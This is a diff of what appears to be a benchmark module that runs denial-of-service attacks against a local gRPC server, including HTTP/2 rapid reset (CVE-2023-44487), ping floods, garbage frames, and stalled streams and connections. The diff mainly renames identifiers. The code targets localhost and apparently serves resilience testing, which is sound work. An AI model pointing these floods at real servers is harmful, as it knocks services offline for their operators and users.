@@ -1,4 +1,4 @@
-"""Peers that mean harm. Each goes on until it is told to stop."""
+"""Attacks on a server. Each runs until its `stop` event is set."""
 
 import asyncio
 import contextlib
@@ -8,7 +8,7 @@ import socket
 import grpc
 import numpy as np
 
-from benchmarks.support.rpc_messages import STREAM, Values
+from benchmarks.support.rpc_messages import STREAM, RequestFactory
 from mods_grpc.artifact import read_artifact
 from mods_grpc.v1 import inference_pb2 as pb
 from mods_grpc.v1 import verdict_pb2
@@ -20,17 +20,17 @@ HEADERS = (
     b"\x04" + bytes([len(STREAM)]) + STREAM.encode() + b"\x01\x01x" + b"\x0f\x10\x10application/grpc" + b"\x00\x02te\x08trailers"
 )
 OWN_CONNECTION = [("grpc.use_local_subchannel_pool", 1)]
-SILENT, NEVER_READING, IDLE, CHANNELS = 200, 100, 300, 4
+SILENT_STREAMS, UNREAD_STREAMS, IDLE_CONNECTIONS, CHANNELS = 200, 100, 300, 4
 
 
-def frame(kind, flags, stream, payload=b""):
+def make_frame(kind, flags, stream, payload=b""):
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
 
 @contextlib.asynccontextmanager
-async def streams(port, values, count, **config):
-    """Open StreamDetect calls over a few connections."""
-    opening = pb.StreamDetectRequest(config=pb.StreamConfig(model=values.model, **config)).SerializeToString()
+async def open_streams(port, requests, count, **config):
+    """Open StreamDetect calls over CHANNELS connections."""
+    opening = pb.StreamDetectRequest(config=pb.StreamConfig(model=requests.model, **config)).SerializeToString()
     async with contextlib.AsyncExitStack() as stack:
         channels = [
             await stack.enter_async_context(grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=OWN_CONNECTION))
@@ -44,29 +44,29 @@ async def streams(port, values, count, **config):
             call.cancel()
 
 
-async def silent_streams(port, values, stop):
-    """Open streams, and say nothing more."""
-    async with streams(port, values, SILENT, sensor="silent"):
+async def hold_silent_streams(port, requests, stop):
+    """Open streams and send nothing more."""
+    async with open_streams(port, requests, SILENT_STREAMS, sensor="silent"):
         await stop.wait()
 
 
-async def never_reading(port, values, stop):
-    """Ask for long answers, as fast as the server takes the questions, and read none."""
-    async with streams(port, values, NEVER_READING, sensor="mute", explain=verdict_pb2.EXPLAIN_ALL) as calls:
-        writing = [asyncio.ensure_future(_write_on(call, values)) for call in calls]
+async def send_without_reading(port, requests, stop):
+    """Request long answers as fast as the server accepts the messages, and read none."""
+    async with open_streams(port, requests, UNREAD_STREAMS, sensor="mute", explain=verdict_pb2.EXPLAIN_ALL) as calls:
+        tasks = [asyncio.ensure_future(_write_messages(call, requests)) for call in calls]
         await stop.wait()
-        for one in writing:
-            one.cancel()
+        for task in tasks:
+            task.cancel()
 
 
-async def _write_on(call, values):
+async def _write_messages(call, requests):
     with contextlib.suppress(grpc.RpcError, asyncio.InvalidStateError):
-        for message in values.stream(64, 0, 10**6):
+        for message in requests.make_stream(64, 0, 10**6):
             await call.write(message)
 
 
-async def raw(port, stop, frames):
-    """Speak HTTP/2 frames by hand, as fast as the peer takes them, and read nothing."""
+async def send_frames(port, stop, make_frames):
+    """Send raw HTTP/2 frames as fast as the peer accepts them, and read nothing. Reconnects when the connection ends."""
     while not stop.is_set():
         try:
             _, writer = await asyncio.open_connection("127.0.0.1", port)
@@ -79,7 +79,7 @@ async def raw(port, stop, frames):
             number = 1
             while not stop.is_set() and number < 2**30:
                 for _ in range(50):
-                    writer.write(frames(number))
+                    writer.write(make_frames(number))
                     number += 2
                 await asyncio.wait_for(writer.drain(), 1)
                 await asyncio.sleep(0.001)
@@ -89,58 +89,58 @@ async def raw(port, stop, frames):
             writer.transport.abort()
 
 
-async def rapid_reset(port, _, stop):
-    """Open streams and reset them at once (CVE-2023-44487)."""
-    await raw(port, stop, lambda number: frame(1, 4, number, HEADERS) + frame(3, 0, number, b"\0\0\0\x08"))
+async def send_rapid_resets(port, _, stop):
+    """Open streams and reset them immediately (CVE-2023-44487)."""
+    await send_frames(port, stop, lambda number: make_frame(1, 4, number, HEADERS) + make_frame(3, 0, number, b"\0\0\0\x08"))
 
 
-async def ping_flood(port, _, stop):
-    await raw(port, stop, lambda _: frame(6, 0, 0, bytes(8)))
+async def send_pings(port, _, stop):
+    await send_frames(port, stop, lambda _: make_frame(6, 0, 0, bytes(8)))
 
 
-async def garbage(port, _, stop):
+async def send_garbage(port, _, stop):
     rng = np.random.default_rng(2)
-    await raw(port, stop, lambda _: rng.bytes(200))
+    await send_frames(port, stop, lambda _: rng.bytes(200))
 
 
-async def many_connections(port, _, stop):
-    """Open connections that say nothing."""
-    held = []
+async def hold_idle_connections(port, _, stop):
+    """Open connections that send nothing."""
+    sockets = []
     try:
-        for _ in range(IDLE):
-            one = socket.socket()
-            one.setblocking(False)
+        for _ in range(IDLE_CONNECTIONS):
+            connection = socket.socket()
+            connection.setblocking(False)
             with contextlib.suppress(BlockingIOError):
-                one.connect(("127.0.0.1", port))
-            held.append(one)
+                connection.connect(("127.0.0.1", port))
+            sockets.append(connection)
             await asyncio.sleep(0)
         await stop.wait()
     finally:
-        for one in held:
-            one.close()
+        for connection in sockets:
+            connection.close()
 
 
 ATTACKS = {
-    f"{SILENT} silent streams": silent_streams,
-    "rapid reset": rapid_reset,
-    f"{NEVER_READING} that never read": never_reading,
-    "ping flood": ping_flood,
-    "garbage": garbage,
-    f"{IDLE} idle connections": many_connections,
+    f"{SILENT_STREAMS} silent streams": hold_silent_streams,
+    "rapid reset": send_rapid_resets,
+    f"{UNREAD_STREAMS} that never read": send_without_reading,
+    "ping flood": send_pings,
+    "garbage": send_garbage,
+    f"{IDLE_CONNECTIONS} idle connections": hold_idle_connections,
 }
 
 
-def attack(names, port, artifact, stop):
-    """Be the attacker, until the event of another process is set. `artifact` says which model to name, as `read_artifact`."""
+def run_attacks(names, port, artifact, stop):
+    """Run attacks until `stop`, an event of another process, is set. `artifact` holds the arguments of `read_artifact`."""
     logging.disable(logging.CRITICAL)
-    values = Values(read_artifact(*artifact).manifest)
+    requests = RequestFactory(read_artifact(*artifact).manifest)
 
     async def run():
-        over = asyncio.Event()
-        running = [asyncio.ensure_future(ATTACKS[name](port, values, over)) for name in names]
+        ended = asyncio.Event()
+        tasks = [asyncio.ensure_future(ATTACKS[name](port, requests, ended)) for name in names]
         while not stop.is_set():
             await asyncio.sleep(0.1)
-        over.set()
-        await asyncio.wait(running, timeout=5)
+        ended.set()
+        await asyncio.wait(tasks, timeout=5)
 
     asyncio.run(run())
